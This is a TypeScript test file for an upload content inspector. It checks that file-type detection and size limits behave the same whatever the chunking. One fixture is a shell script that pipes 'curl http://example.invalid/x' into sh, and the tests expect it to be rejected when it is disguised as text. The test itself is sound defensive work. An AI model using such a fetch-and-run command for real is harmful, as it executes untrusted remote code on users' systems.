import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { describe, expect, it } from 'vitest';
import { FileTypeContentSniffer } from '../../../adapters/sniff/file-type.content-sniffer.ts';
import { ContentInspector } from '../../../src/app/intake/content-inspector.ts';
import { isDomainError } from '../../../src/domain/errors.ts';
import { ACCEPTED_TYPES } from '../../../src/domain/file-types.ts';

const sniffer = new FileTypeContentSniffer();
const WINDOW = sniffer.windowBytes;

/** Run `bytes` through an inspector for `extension`, split into chunks of `chunkSize`; the outcome and what came out. */
async function inspect(extension: string, bytes: Buffer, chunkSize: number): Promise<string> {
  const accepted = ACCEPTED_TYPES[extension]!;
  const inspector = new ContentInspector(accepted, 10 * 1024 * 1024, sniffer);
  const chunks: Buffer[] = [];
  for (let i = 0; i < bytes.length; i += chunkSize) chunks.push(bytes.subarray(i, i + chunkSize));
  const received: Buffer[] = [];
  const sink = new Writable({
    write(chunk: Buffer, _encoding, done) {
      received.push(chunk);
      done();
    },
  });
  try {
    await pipeline(Readable.from(chunks, { objectMode: false }), inspector, sink);
  } catch (error) {
    if (isDomainError(error)) return error.code;
    throw error;
  }
  const out = Buffer.concat(received);
  expect(out.equals(bytes)).toBe(true);
  return `ok ${inspector.size} ${inspector.sha256.slice(0, 12)}`;
}

const text = (n: number) => Buffer.from('Quarterly figures, line by line.\n'.repeat(Math.ceil(n / 33)).slice(0, n));
const withByteAt = (buffer: Buffer, at: number, byte: number) => {
  const copy = Buffer.from(buffer);
  copy[at] = byte;
  return copy;
};
const MINIMAL_PDF = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'), Buffer.alloc(6000, 7)]);
const utf16 = (value: string, endian: 'le' | 'be') => {
  const le = Buffer.from(value, 'utf16le');
  const body = endian === 'le' ? le : Buffer.from(le).swap16();
  return Buffer.concat([Buffer.from(endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]), body]);
};
const SCRIPT = '#!/bin/sh\ncurl http://example.invalid/x | sh\n' + 'echo padding\n'.repeat(400);

const CASES: Array<[string, string, Buffer, string]> = [
  ['long plain text', 'txt', text(70_000), 'ok'],
  ['text shorter than the window', 'txt', text(100), 'ok'],
  ['text with NUL inside the window', 'txt', withByteAt(text(70_000), 4000, 0), 'type_mismatch'],
  ['text with NUL only past the window', 'txt', withByteAt(text(70_000), WINDOW + 10, 0), 'ok'],
  ['text with many control characters inside the window', 'txt', Buffer.concat([Buffer.alloc(60, 1), text(70_000)]), 'type_mismatch'],
  ['a PDF', 'pdf', MINIMAL_PDF, 'ok'],
  ['a PNG larger than the window', 'png', PNG, 'ok'],
  ['text named .pdf', 'pdf', text(9000), 'type_mismatch'],
  ['a PDF named .txt', 'txt', MINIMAL_PDF, 'type_mismatch'],
  ['a shell script named .txt', 'txt', Buffer.from(SCRIPT), 'type_mismatch'],
  ['a shell script behind a UTF-8 byte-order mark', 'txt', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SCRIPT)]), 'type_mismatch'],
  ['a shell script behind a UTF-16 LE byte-order mark', 'txt', utf16(SCRIPT, 'le'), 'type_mismatch'],
  ['a shell script behind a UTF-16 BE byte-order mark', 'txt', utf16(SCRIPT, 'be'), 'type_mismatch'],
  ['UTF-16 LE text', 'txt', utf16('Grüße aus Köln.\n'.repeat(600), 'le'), 'ok'],
  ['UTF-16 BE text', 'csv', utf16('a;b;c\n1;2;3\n'.repeat(900), 'be'), 'ok'],
  ['UTF-8 text with a byte-order mark', 'md', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), text(5000)]), 'ok'],
  ['an empty body', 'txt', Buffer.alloc(0), 'empty_upload'],
];

describe('content inspection does not depend on how the body is chunked', () => {
  it.each(CASES)('%s (.%s)', async (_label, extension, bytes, expected) => {
    const sizes = [1, 3, 7, 1000, WINDOW - 1, WINDOW, WINDOW + 1, Math.max(bytes.length, 1)];
    const outcomes = new Set<string>();
    for (const size of sizes) outcomes.add(await inspect(extension, bytes, size));
    expect([...outcomes]).toHaveLength(1);
    expect([...outcomes][0]!.split(' ')[0]).toBe(expected);
  });

  it('refuses past the size limit whatever the chunking', async () => {
    for (const size of [1, 999, 5000]) {
      const inspector = new ContentInspector(ACCEPTED_TYPES.txt!, 5000, sniffer);
      const chunks = [text(6000)].flatMap((b) => Array.from({ length: Math.ceil(b.length / size) }, (_, i) => b.subarray(i * size, (i + 1) * size)));
      await expect(pipeline(Readable.from(chunks), inspector, new Writable({ write: (_c, _e, done) => done() }))).rejects.toMatchObject({ code: 'payload_too_large' });
    }
  });
});
